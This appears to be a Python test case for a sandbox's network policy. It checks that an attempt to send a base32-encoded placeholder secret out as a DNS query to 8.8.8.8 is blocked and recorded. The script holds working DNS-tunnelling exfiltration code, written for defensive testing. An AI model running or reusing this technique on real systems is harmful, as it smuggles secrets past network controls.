#!/usr/bin/env python3
# tries: carry data out in a DNS question, sent to a public resolver's UDP port 53 without connecting
# must: send nothing; the attempt is recorded
# expect: exit=1 status=exited verdict=violated rule=network-send/deny network=8.8.8.8:53 stdout-lacks=sent
# control: skipped, it would leave the machine

import base64
import socket
import struct
import sys

secret = base64.b32encode(b"the secret").rstrip(b"=")
name = b"".join(bytes([len(label)]) + label for label in (secret, b"example", b"com"))
question = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 16, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as tunnel:
    try:
        print("sent", tunnel.sendto(question, ("8.8.8.8", 53)), "bytes")
    except OSError as error:
        sys.exit(f"not sent: {error}")
